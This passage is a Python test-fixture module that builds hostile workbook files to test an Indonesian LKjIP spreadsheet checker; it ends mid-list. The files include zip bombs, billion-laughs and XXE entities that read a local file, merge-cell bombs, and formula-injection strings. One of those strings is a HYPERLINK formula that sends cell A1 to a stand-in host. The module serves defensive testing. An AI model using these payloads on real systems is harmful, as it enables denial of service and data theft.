"""The corpus of bad inputs: every file is generated here, nothing is committed.

Each `Case` builds one file in a folder and says exactly what must happen to it:

- `("unreadable", reason)`: `check` reports the file unreadable with that message key (one
  line: file, what is wrong, what to do; exit code 2), and `fix` refuses it the same way;
- `("findings", codes)`: the file is read and the findings include every code in `codes`
  (and none of `absent`); `fix` writes a corrected workbook that reads back;
- `("fix-refuses", codes)`: read, with those findings, but `fix` refuses to write it (one
  line, exit 2, no output file, no temporary file left behind).

The hostile files are built cheaply and for real: the zip bomb is one deflate block of a
MiB of spaces repeated (a 1 MB file that unpacks to 1 GiB, with a correct CRC), the
million-row sheet is streamed into the zip, the password-protected workbook is a real OLE2
compound file holding an `EncryptedPackage` stream.
"""

from __future__ import annotations

import datetime
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from lkjip_xl.schema import (
    SHEET_BUDGET,
    SHEET_IDENTITY,
    SHEET_MEASUREMENT,
    SHEET_PK,
    SHEET_RPJMD,
)

from .builders import make_workbook, measured_rows

SECRET = "RAHASIA-XXE-7d41c0"  # the content of the file the XXE cases point at
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
NS_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
HOSTILE_TEXTS = ("=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"klik\")", "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0")


@dataclass(frozen=True)
class Case:
    name: str  # the file's name (its suffix matters)
    build: Callable[[Path], Path] = field(repr=False)  # writes the file into a folder
    expected: tuple[str, Any]
    absent: frozenset[str] = frozenset()  # codes that must not be found
    limits: tuple[tuple[str, int], ...] = ()  # Limits fields to set (API and --max-* options)
    fix_refusal: str = ""  # for "fix-refuses": the message key of the one line fix prints
    note: str = ""

    @property
    def kind(self) -> str:
        return self.expected[0]

    @property
    def readable(self) -> bool:
        return self.kind != "unreadable"

    def cli_options(self) -> list[str]:
        return [f"--{key.replace('_', '-')}={value}" for key, value in self.limits]


# --- a good workbook, and ways to spoil it ----------------------------------------------------

def good_rows() -> dict[str, list[dict[str, Any]]]:
    """One indicator, consistent everywhere (every table filled): `check` finds nothing."""
    return measured_rows()


def good(path: Path, **changes: Any) -> Path:
    rows = good_rows()
    rows.update(changes)
    return make_workbook(path, **rows)


def edited(edit: Callable[[Any], None], **changes: Any) -> Callable[[Path], Path]:
    """A good workbook changed with openpyxl by `edit(wb)`."""
    def build(path: Path) -> Path:
        import openpyxl

        good(path, **changes)
        wb = openpyxl.load_workbook(path)
        edit(wb)
        wb.save(path)
        return path
    return build


def with_rows(**changes: Any) -> Callable[[Path], Path]:
    return lambda path: good(path, **changes)


def pengukuran(**values: Any) -> list[dict[str, Any]]:
    row = dict(good_rows()["pengukuran"][0])
    row.update(values)
    return [row]


def rezip(path: Path, src: Path, replace: dict[str, bytes] | None = None,
          drop: tuple[str, ...] = (), add: dict[str, bytes] | None = None) -> Path:
    """A copy of the zip `src` with parts replaced, dropped or added."""
    replace, add = replace or {}, add or {}
    data = src.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if item.filename in drop:
                continue
            zout.writestr(item.filename, replace.get(item.filename, zin.read(item.filename)))
        for name, blob in add.items():
            zout.writestr(name, blob)
    return path


def spoiled(change: Callable[[zipfile.ZipFile], dict[str, Any]]) -> Callable[[Path], Path]:
    """A good workbook whose parts are rewritten: `change(zf)` returns rezip's arguments."""
    def build(path: Path) -> Path:
        base = good(path.with_name(f".base-{path.name}"))
        with zipfile.ZipFile(base) as zf:
            kwargs = change(zf)
        rezip(path, base, **kwargs)
        base.unlink()
        return path
    return build


def sheet_part(zf: zipfile.ZipFile, title: str) -> str:
    """The part holding the sheet `title` in a workbook written by openpyxl."""
    import re

    workbook = zf.read("xl/workbook.xml").decode()
    sheets = re.findall(r'<sheet [^>]*name="([^"]+)"[^>]*r:id="(rId\d+)"', workbook)
    rels = {}
    for m in re.finditer(r"<Relationship [^>]*>", zf.read("xl/_rels/workbook.xml.rels").decode()):
        tag = m.group()
        rid = re.search(r'Id="([^"]+)"', tag).group(1)  # type: ignore[union-attr]
        target = re.search(r'Target="([^"]+)"', tag).group(1)  # type: ignore[union-attr]
        rels[rid] = target.lstrip("/") if target.startswith("/") else "xl/" + target
    return next(rels[rid] for name, rid in sheets if name == title)


# --- raw files ----------------------------------------------------------------------------

def write_bytes(data: bytes) -> Callable[[Path], Path]:
    def build(path: Path) -> Path:
        path.write_bytes(data)
        return path
    return build


def raw_zip(path: Path, entries: list[tuple[str, bytes, int, int, int]]) -> Path:
    """A zip written by hand: (name, packed data, method, crc, unpacked size) per entry, so
    that a part can be packed in a way zipfile would not (a bomb, a lying size)."""
    out = io.BytesIO()
    central = []
    for name, packed, method, crc, size in entries:
        offset = out.tell()
        raw = name.encode()
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21,
                              crc, len(packed), size, len(raw), 0) + raw + packed)
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method,
                                   0, 0x21, crc, len(packed), size, len(raw), 0, 0, 0, 0, 0,
                                   offset) + raw)
    start = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central),
                          out.tell() - start, start, 0))
    path.write_bytes(out.getvalue())
    return path


def deflated(data: bytes) -> tuple[bytes, int, int, int]:
    co = zlib.compressobj(6, zlib.DEFLATED, -15)
    return co.compress(data) + co.flush(), 8, zlib.crc32(data), len(data)


def minimal_parts(sheets: dict[str, bytes], extra: dict[str, bytes] | None = None,
                  shared: bytes | None = None) -> dict[str, bytes]:
    """The parts of a minimal .xlsx with these sheets (name -> sheet XML), and the shared
    strings part `shared`."""
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(sheets) + 1))
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
            '.org/package/2006/content-types"><Default Extension="rels" ContentType="applicati'
            'on/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" Content'
            'Type="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="applica'
            'tion/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            f"{overrides}</Types>").encode(),
        "_rels/.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxml'
            b'formats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schem'
            b'as.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl'
            b'/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook {NS} {NS_R}><sheets>'
            + "".join(f'<sheet name="{name}" sheetId="{i}" r:id="rId{i}"/>'
                      for i, name in enumerate(sheets, start=1))
            + "</sheets></workbook>").encode(),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxml'
            'formats.org/package/2006/relationships">'
            + "".join(f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/offic'
                      'eDocument/2006/relationships/worksheet" Target="worksheets/sheet'
                      f'{i}.xml"/>' for i in range(1, len(sheets) + 1))
            + ('<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/'
               '2006/relationships/sharedStrings" Target="sharedStrings.xml"/>' if shared else "")
            + "</Relationships>").encode(),
    }
    if shared is not None:
        parts["xl/sharedStrings.xml"] = shared
    for i, xml in enumerate(sheets.values(), start=1):
        parts[f"xl/worksheets/sheet{i}.xml"] = xml
    parts.update(extra or {})
    return parts


def minimal_xlsx(sheets: dict[str, bytes], extra: dict[str, bytes] | None = None,
                 shared: bytes | None = None) -> Callable[[Path], Path]:
    def build(path: Path) -> Path:
        entries = [(name, *deflated(data)) for name, data in
                   minimal_parts(sheets, extra, shared).items()]
        return raw_zip(path, entries)
    return build


def sheet_xml(body: str, before: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}>{before}<sheetData>{body}' \
           "</sheetData></worksheet>".encode()


# --- hostile files --------------------------------------------------------------------------

def zip_bomb(path: Path, gib: int = 1) -> Path:
    """A 1 MB file whose sheet unpacks to `gib` GiB of spaces: one deflate block of a MiB of
    spaces, repeated (a full flush resets the compressor, so every block packs the same)."""
    head = f'<?xml version="1.0"?><worksheet {NS}><sheetData>'.encode()
    tail = b"</sheetData></worksheet>"
    block = b" " * (1 << 20)
    count = 1024 * gib
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed_head = co.compress(head) + co.flush(zlib.Z_FULL_FLUSH)
    packed_block = co.compress(block) + co.flush(zlib.Z_FULL_FLUSH)
    packed = packed_head + packed_block * count + co.compress(tail) + co.flush()
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + len(block) * count + len(tail)
    entries = [(name, *deflated(data)) for name, data in
               minimal_parts({SHEET_IDENTITY: sheet_xml("")}).items()
               if name != "xl/worksheets/sheet1.xml"]
    entries.append(("xl/worksheets/sheet1.xml", packed, 8, crc, size))
    return raw_zip(path, entries)


def lying_bomb(path: Path) -> Path:
    """A sheet that declares 5,000 bytes and unpacks to 64 MiB: every reader stops at the
    declared size (python's zipfile with a CRC error, calamine with an I/O error)."""
    data = sheet_xml(" " * (64 << 20))
    packed, method, crc, _ = deflated(data)
    entries = [(name, *deflated(blob)) for name, blob in
               minimal_parts({SHEET_IDENTITY: b""}).items() if name != "xl/worksheets/sheet1.xml"]
    entries.append(("xl/worksheets/sheet1.xml", packed, method, crc, 5000))
    return raw_zip(path, entries)


def many_rows(path: Path, rows: int = 1_000_000, cols: int = 2) -> Path:
    """A sheet of a million rows, streamed into the zip (about 6 MB packed, 0.5 s)."""
    letters = [chr(65 + c) for c in range(cols)]
    parts = minimal_parts({SHEET_BUDGET: b""})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in parts.items():
            if name != "xl/worksheets/sheet1.xml":
                zf.writestr(name, data)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(f'<?xml version="1.0"?><worksheet {NS}><dimension ref="A1:'
                     f'{letters[-1]}{rows}"/><sheetData>'.encode())
            step = 20_000
            for first in range(1, rows + 1, step):
                fh.write("".join(
                    f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>{r}</v></c>' for c in letters)
                    + "</row>" for r in range(first, min(first + step, rows + 1))).encode())
            fh.write(b"</sheetData></worksheet>")
    return path


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;'
          '&lol;&lol;&lol;&lol;">' + "".join(
              f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(2, 10)) + "]>")


def xxe(target: Path) -> str:
    return f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{target.as_uri()}">]>'


def with_doctype(part: str, doctype: Callable[[Path], str], entity: str
                 ) -> Callable[[Path], Path]:
    """A good workbook whose `part` gets a DTD after its XML declaration, and the entity
    used in a text cell (sheets, shared strings) or an attribute (the workbook part)."""
    def build(path: Path) -> Path:
        secret = path.parent / "rahasia.txt"
        secret.write_text(SECRET, encoding="utf-8")
        base = good(path.with_name(f".base-{path.name}"))
        with zipfile.ZipFile(base) as zf:
            target = sheet_part(zf, SHEET_IDENTITY) if part == "sheet" else part
            xml = zf.read(target).decode()
        decl_end = xml.index("?>") + 2 if xml.startswith("<?xml") else 0
        xml = xml[:decl_end] + doctype(secret) + xml[decl_end:]
        if part == "sheet":
            xml = xml.replace("<sheetData>", f'<sheetData><row r="40"><c r="A40" t="inlineStr">'
                                             f"<is><t>{entity}</t></is></c></row>", 1)
        else:
            xml = xml.replace(f'name="{SHEET_IDENTITY}"', f'name="{entity}"', 1)
        rezip(path, base, replace={target: xml.encode()})
        base.unlink()
        return path
    return build


def shared_doctype(doctype: Callable[[Path], str], entity: str) -> Callable[[Path], Path]:
    """A workbook whose one string lives in a shared strings part with a DTD."""
    def build(path: Path) -> Path:
        secret = path.parent / "rahasia.txt"
        secret.write_text(SECRET, encoding="utf-8")
        shared = (f'<?xml version="1.0" encoding="UTF-8"?>{doctype(secret)}<sst {NS} count="1" '
                  f'uniqueCount="1"><si><t>{entity}</t></si></sst>').encode()
        sheet = sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
        return minimal_xlsx({SHEET_IDENTITY: sheet}, shared=shared)(path)
    return build


def ole2(path: Path, streams: tuple[str, ...]) -> Path:
    """A minimal but well-formed OLE2 compound file (the container of .xls files and of
    password-protected .xlsx files) whose directory names these empty streams."""
    end, free, fat_sect = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    header = struct.pack("<8s16sHHHHHH6sIIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
                         b"\0" * 16, 0x3E, 3, 0xFFFE, 9, 6, 0, b"\0" * 6, 0, 1, 1, 0, 4096,
                         end, 0, end, 0, 0)
    header += struct.pack("<I", free) * 108  # the rest of the header's FAT sector list
    fat = struct.pack("<II", fat_sect, end) + struct.pack("<I", free) * 126

    def entry(name: str, kind: int, child: int = free, right: int = free) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        return struct.pack("<64sHBBIII16sIQQIQ", raw, len(raw), kind, 1, free, right, child,
                           b"\0" * 16, 0, 0, 0, end if kind == 5 else 0, 0)

    names = list(streams)
    directory = entry("Root Entry", 5, child=1)
    for i, name in enumerate(names, start=1):
        directory += entry(name, 2, right=i + 1 if i < len(names) else free)
    directory += b"\0" * (512 - len(directory) % 512) if len(directory) % 512 else b""
    path.write_bytes(header + fat + directory)
    return path


def ods(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", '<?xml version="1.0"?><office:document-content xmlns:office='
                                   '"urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>')
        zf.writestr("META-INF/manifest.xml", "<manifest/>")
    return path


def xlsb(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("_rels/.rels", "<Relationships/>")
        zf.writestr("xl/workbook.bin", b"\x83\x01\x00\x84\x01\x00")
        zf.writestr("xl/worksheets/sheet1.bin", b"\x81\x01\x00\x82\x01\x00")
    return path


def encrypted_entry(path: Path) -> Path:
    """A zip whose entries are marked encrypted (a zip password, not Excel's encryption)."""
    good(path)
    data = bytearray(path.read_bytes())
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sig)
        while at >= 0:
            data[at + flag_at] |= 1
            at = data.find(sig, at + 4)
    path.write_bytes(bytes(data))
    return path


def truncated(path: Path) -> Path:
    data = good(path.with_name(f".base-{path.name}")).read_bytes()
    path.with_name(f".base-{path.name}").unlink()
    path.write_bytes(data[: len(data) // 2])
    return path


def many_parts(path: Path) -> Path:
    entries = [(name, *deflated(data)) for name, data in
               minimal_parts({SHEET_IDENTITY: sheet_xml("")}).items()]
    empty = deflated(b"")
    entries += [(f"xl/media/x{i}.bin", *empty) for i in range(10_001)]
    return raw_zip(path, entries)


def _set(sheet: str, address: str, value: Any, *, text: bool = False,
         number_format: str | None = None) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        cell = wb[sheet][address]
        cell.value = value
        if text:
            cell.data_type = "s"
        if number_format:
            cell.number_format = number_format
    return edit


def _all(*edits: Callable[[Any], None]) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        for e in edits:
            e(wb)
    return edit


def _rename(old: str, new: str) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        wb[old].title = new
    return edit


def _hide(sheet: str, state: str) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        wb[sheet].sheet_state = state
    return edit


def _header(sheet: str, column: int, value: Any) -> Callable[[Any], None]:
    return _set(sheet, f"{chr(64 + column)}3", value)


def _keep_only_data_rows(wb: Any) -> None:
    for name in (SHEET_RPJMD, SHEET_PK, SHEET_MEASUREMENT, SHEET_BUDGET):
        ws = wb[name]
        ws.delete_rows(4, ws.max_row)


def _merge_headers(wb: Any) -> None:
    ws = wb[SHEET_MEASUREMENT]
    ws.insert_rows(3)  # a title row above the header, merged across it
    ws["A3"] = "Pengukuran Kinerja Sasaran"
    ws.merge_cells("A3:K3")
    ws.merge_cells("B4:B4")
    ws = wb[SHEET_PK]
    ws.merge_cells("D3:E3")  # Sasaran merged over Indikator Kinerja: the latter is lost


def _no_template_sheets(path: Path) -> Path:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    ws.append(["No", "Uraian", "Nilai"])
    ws.append([1, "Sesuatu", 100])
    wb.save(path)
    return path


EXCEL_MAX_TEXT = 32_767  # characters in one cell


def _long_strings(wb: Any) -> None:
    """Texts as long as Excel allows, in text and number columns: quoted in a message they
    would make a Temuan cell longer than a cell may be."""
    wb[SHEET_PK]["D4"] = ("Sasaran " + "panjang " * 4100)[:EXCEL_MAX_TEXT]
    wb[SHEET_MEASUREMENT]["F4"] = "9" * 5000  # a 5,000-digit 'number' as text
    wb[SHEET_MEASUREMENT]["F4"].data_type = "s"
    wb[SHEET_MEASUREMENT]["G4"] = ("90 orang " * 4000)[:EXCEL_MAX_TEXT]


def _control_chars(path: Path) -> Path:
    """Text holding control characters, written the way OOXML allows (`_x0001_`): calamine
    decodes them; openpyxl refuses to write them into a cell."""
    base = good(path.with_name(f".base-{path.name}"))
    with zipfile.ZipFile(base) as zf:
        part = sheet_part(zf, SHEET_MEASUREMENT)
        xml = zf.read(part).decode()
    hostile = ('<c r="L4" t="inlineStr"><is><t xml:space="preserve">catatan_x0001__x0007_'
               "&#9;tab_x001B_[31m</t></is></c>")
    xml = xml.replace('</row><row r="5"', f'{hostile}</row><row r="5"', 1) \
        if '<row r="5"' in xml else xml.replace("</row></sheetData>",
                                                f"{hostile}</row></sheetData>", 1)
    # The Target cell gets a control character too: its text is quoted in messages (INP003).
    xml = xml.replace('<c r="F4" t="n"><v>100</v></c>',
                      '<c r="F4" t="inlineStr"><is><t>100_x0002_</t></is></c>', 1)
    rezip(path, base, replace={part: xml.encode()})
    base.unlink()
    return path


def _hostile_texts(wb: Any) -> None:
    """Text cells (not formulas) that a spreadsheet would run if they were pasted raw."""
    for sheet, address, text in (
        (SHEET_IDENTITY, "B3", HOSTILE_TEXTS[0]),  # Nama Instansi
        (SHEET_RPJMD, "D4", HOSTILE_TEXTS[0]),  # Indikator Kinerja
        (SHEET_PK, "E4", HOSTILE_TEXTS[1]),  # Indikator Kinerja
        (SHEET_PK, "B5", HOSTILE_TEXTS[2]),  # Kode (of the Kegiatan)
        (SHEET_MEASUREMENT, "J4", HOSTILE_TEXTS[3]),  # Sumber
        (SHEET_MEASUREMENT, "K4", HOSTILE_TEXTS[1]),  # Keterangan
        (SHEET_MEASUREMENT, "H4", "=1+1"),  # Capaian as a text that looks like a formula
    ):
        cell = wb[sheet][address]
        cell.value = text
        cell.data_type = "s"


def _pivot_part(zf: zipfile.ZipFile) -> dict[str, Any]:
    return {"add": {"xl/pivotTables/pivotTable1.xml": b"<pivotTableDefinition/>"}}


def _strict_namespace(zf: zipfile.ZipFile) -> dict[str, Any]:
    """Cells without `r` addresses and an `x:` prefix: legal XML that calamine reads."""
    part = sheet_part(zf, SHEET_BUDGET)
    body = ("<x:row><x:c t=\"inlineStr\"><x:is><x:t>Kelompok</x:t></x:is></x:c>"
            "<x:c/><x:c t=\"inlineStr\"><x:is><x:t>Belanja</x:t></x:is></x:c></x:row>")
    xml = zf.read(part).decode()
    header_end = xml.index("</row>", xml.index('<row r="3"')) + len("</row>")
    rest = xml[header_end:xml.index("</sheetData>")]
    xml = xml[:header_end] + rest + body + xml[xml.index("</sheetData>"):]
    xml = xml.replace("<worksheet ", '<worksheet xmlns:x="http://schemas.openxmlformats.org/'
                                     'spreadsheetml/2006/main" ', 1)
    return {"replace": {part: xml.encode()}}


def _formula_cells(wb: Any) -> None:
    ws = wb[SHEET_MEASUREMENT]
    ws["H4"] = "=G4/F4*100"  # openpyxl stores no cached value
    ws["G4"] = "=DATE(2019,1,1)"


def _error_values(path: Path) -> Path:
    base = good(path.with_name(f".base-{path.name}"))
    with zipfile.ZipFile(base) as zf:
        part = sheet_part(zf, SHEET_MEASUREMENT)
        xml = zf.read(part).decode()
    xml = xml.replace('<c r="G4" t="n"><v>90</v></c>', '<c r="G4" t="e"><v>#DIV/0!</v></c>', 1)
    xml = xml.replace('<c r="H4" t="n"><v>90</v></c>',
                      '<c r="H4" t="e"><f>G4/0</f><v>#VALUE!</v></c>', 1)
    rezip(path, base, replace={part: xml.encode()})
    base.unlink()
    return path


def _non_finite(path: Path) -> Path:
    """Numbers Excel cannot hold, as a writer other than Excel may leave them."""
    base = good(path.with_name(f".base-{path.name}"))
    with zipfile.ZipFile(base) as zf:
        part = sheet_part(zf, SHEET_MEASUREMENT)
        xml = zf.read(part).decode()
    xml = xml.replace('<c r="G4" t="n"><v>90</v></c>', '<c r="G4" t="n"><v>NaN</v></c>', 1)
    xml = xml.replace('<c r="F4" t="n"><v>100</v></c>', '<c r="F4" t="n"><v>inf</v></c>', 1)
    rezip(path, base, replace={part: xml.encode()})
    base.unlink()
    return path


def _date_style_huge_negative(path: Path) -> Path:
    """-1e12 in a date-formatted Realisasi cell: python-calamine panics converting it."""
    import openpyxl

    good(path)
    wb = openpyxl.load_workbook(path)
    cell = wb[SHEET_MEASUREMENT]["G4"]
    cell.value = -1e12
    cell.number_format = "dd/mm/yyyy"
    wb.save(path)
    return path


def _merge_bomb(path: Path) -> Path:
    """A sheet of 100 cells with 2,000 overlapping merged ranges of 9,900 cells each: every
    range is spread over its cells by the reader (20 million entries) unless limited."""
    merges = "".join('<mergeCell ref="A1:CV99"/>' for _ in range(2_000))
    body = '<row r="1"><c r="A1"><v>1</v></c></row>'
    xml = (f'<?xml version="1.0"?><worksheet {NS}><sheetData>{body}</sheetData>'
           f'<mergeCells count="2000">{merges}</mergeCells></worksheet>').encode()
    return minimal_xlsx({SHEET_PK: xml})(path)


def _text_numbers_everywhere(path: Path) -> Path:
    """Every way of writing a number of domain.md, "Numbers as people write them"."""
    rows = good_rows()
    rows["pengukuran"] = [
        {**rows["pengukuran"][0], "target": "1.697", "realisasi": "21,378 KPM",
         "capaian": "95.56", "satuan": "Indeks"},  # not a count: '1.697' is ambiguous
    ]
    rows["lampiran"][0].update({"target": "6.910.387.000", "realisasi": "8,102,579,062,65"})
    rows["keuangan"] = [
        {"baris": "Kelompok", "uraian": "Belanja Langsung"},
        {"baris": "Program", "kode": "1", "uraian": "Program uji",
         "pagu": "Rp. 18,685,267,564,00", "realisasi": "745,520,000,00-",
         "persentase": "74,94"},
        {"baris": "Rincian", "uraian": "Belanja", "pagu": "1,004,422,800",
         "realisasi": "6.910.387.000"},
    ]
    return make_workbook(path, **rows)


def _sheet_names_case_space(wb: Any) -> None:
    # Through a temporary name: openpyxl compares titles case-insensitively, so renaming a
    # sheet to a case variant of its own name would give 'pengukuran kinerja1'.
    for old, new in ((SHEET_PK, "LAMPIRAN II  "), (SHEET_MEASUREMENT, "pengukuran kinerja"),
                     (SHEET_BUDGET, " Keuangan")):
        wb[old].title = "tmp"
        wb["tmp"].title = new


def _wide_sparse() -> bytes:
    return sheet_xml('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>2</v></c></row>'
                     '<row r="400"><c r="B400"><v>3</v></c></row>')


CASES: tuple[Case, ...] = (
    # --- not workbooks at all
    Case("kosong.xlsx", write_bytes(b""), ("unreadable", "open.empty")),
    Case("teks.xlsx", write_bytes(b"Laporan kinerja, lihat lampiran.\n"),
         ("unreadable", "open.not_zip")),
    Case("tabel.csv.xlsx", write_bytes(b"Kode;Target;Realisasi\nIK-1;100;90\n"),
         ("unreadable", "open.not_zip")),
    Case("laporan.pdf.xlsx", write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
         ("unreadable", "open.document")),
    Case("ekspor.html.xlsx", write_bytes(b"<html><body><table><tr><td>IK-1</td></tr></table>"),
         ("unreadable", "open.not_zip")),
    Case("terpotong.xlsx", truncated, ("unreadable", "open.corrupt")),
    Case("dokumen_word.xlsx", spoiled(lambda zf: {
        "drop": tuple(n for n in zf.namelist() if n.startswith("xl/")),
        "add": {"word/document.xml": b"<document/>"}}), ("unreadable", "open.document")),
    Case("berkata_sandi.xlsx", lambda p: ole2(p, ("EncryptionInfo", "EncryptedPackage")),
         ("unreadable", "open.password")),
    Case("zip_bersandi.xlsx", encrypted_entry, ("unreadable", "open.password")),
    Case("lama.xls", lambda p: ole2(p, ("Workbook", "SummaryInformation")),
         ("unreadable", "open.legacy_xls")),
    Case("lembar.ods", ods, ("unreadable", "open.ods")),
    Case("biner.xlsb", xlsb, ("unreadable", "open.xlsb")),
    Case("lembar_bukan_xml.xlsx", spoiled(lambda zf: {"replace": {
        sheet_part(zf, SHEET_PK): b"<worksheet><sheetData><row><c r='A1' t='s'"}}),
        ("unreadable", "open.corrupt")),
    Case("utf16.xlsx", minimal_xlsx({SHEET_IDENTITY: b"\xff\xfe" + sheet_xml(
        '<row r="1"><c r="A1"><v>1</v></c></row>').decode().encode("utf-16-le")}),
        ("unreadable", "open.corrupt")),
    # --- limits
    Case("bom_zip.xlsx", zip_bomb, ("unreadable", "limit.zip_ratio"),
         note="1 MB file, one sheet part of 1 GiB"),
    Case("bom_zip_ukuran_palsu.xlsx", lying_bomb, ("unreadable", "open.corrupt"),
         note="declares 5,000 bytes, unpacks to 64 MiB: refused at the declared size"),
    Case("sejuta_baris.xlsx", many_rows, ("unreadable", "limit.rows")),
    Case("sel_berjauhan.xlsx", minimal_xlsx({SHEET_IDENTITY: sheet_xml(
        '<row r="1"><c r="A1"><v>1</v></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>',
        before='<dimension ref="A1"/>')}), ("unreadable", "limit.rows"),
        note="1 KB; calamine would allocate 512 GB and abort the process"),
    Case("sel_lebar.xlsx", minimal_xlsx({SHEET_IDENTITY: _wide_sparse()}),
         ("unreadable", "limit.cells"), note="400 rows x 16,384 columns"),
    Case("sel_tanpa_alamat.xlsx", minimal_xlsx({SHEET_IDENTITY: sheet_xml(
        '<row r="300000"><c r="A1"><v>1</v></c><c><v>2</v></c></row>')}),
        ("unreadable", "limit.rows"),
        note="the second cell has no address: calamine puts it in the <row>'s row"),
    Case("alamat_ganda.xlsx", minimal_xlsx({SHEET_IDENTITY: sheet_xml(
        '<row r="1"><c r="A1" r="XFD1048576"><v>1</v></c></row>')}),
        ("unreadable", "limit.rows"), note="two `r`: calamine takes the last one"),
    Case("gabungan_bom.xlsx", _merge_bomb, ("unreadable", "limit.cells")),
    Case("terlalu_banyak_bagian.xlsx", many_parts, ("unreadable", "limit.parts")),
    Case("batas_baris_kecil.xlsx", with_rows(), ("findings", frozenset({"INP015"})),
         limits=(("max_rows", 5),), note="a sheet longer than --max-rows: read in part"),
    Case("tanggal_negatif_raksasa.xlsx", _date_style_huge_negative,
         ("unreadable", "open.unconvertible"),
         note="python-calamine panics (a BaseException) converting the cell"),
    # --- hostile XML
    Case("tawa_miliaran_lembar.xlsx", with_doctype("sheet", lambda _: LAUGHS, "&lol9;"),
         ("unreadable", "open.xml_dtd")),
    Case("tawa_miliaran_teks_bersama.xlsx", shared_doctype(lambda _: LAUGHS, "&lol9;"),
         ("unreadable", "open.xml_dtd")),
    Case("xxe_lembar.xlsx", with_doctype("sheet", xxe, "&xxe;"), ("unreadable", "open.xml_dtd")),
    Case("xxe_teks_bersama.xlsx", shared_doctype(xxe, "&xxe;"), ("unreadable", "open.xml_dtd")),
    Case("xxe_buku_kerja.xlsx", with_doctype("xl/workbook.xml", xxe, "&xxe;"),
         ("unreadable", "open.xml_dtd")),
    # --- readable, but not the template
    Case("tanpa_lembar_templat.xlsx", _no_template_sheets, ("fix-refuses", frozenset({"INP006"})),
         fix_refusal="fix.not_lkjip", note="not an LKjIP: fix refuses, as the Excel button"),
    Case("judul_kolom_diganti.xlsx", edited(_all(*(
        _header(SHEET_PK, c, f"Kolom {c}") for c in range(1, 14)))),
        ("findings", frozenset({"INP007"}))),
    Case("judul_kolom_ganda.xlsx", edited(_header(SHEET_BUDGET, 8, "Pagu")),
         ("findings", frozenset({"INP009"}))),
    Case("kolom_baris_hilang.xlsx", edited(_header(SHEET_MEASUREMENT, 1, "Jenis")),
         ("findings", frozenset({"INP008"}))),
    Case("judul_digabung.xlsx", edited(_merge_headers), ("findings", frozenset()),
         absent=frozenset({"INP006", "INP007", "INP008"}),
         note="a merged title row above the header, a header merged over its neighbour"),
    Case("hanya_judul.xlsx", edited(_keep_only_data_rows), ("fix-refuses", frozenset()),
         absent=frozenset({"INP006", "INP007", "INP008"}), fix_refusal="fix.no_data",
         note="headers, no data: fix refuses, as the Excel button"),
    Case("lembar_tersembunyi.xlsx", edited(_all(_hide(SHEET_BUDGET, "hidden"),
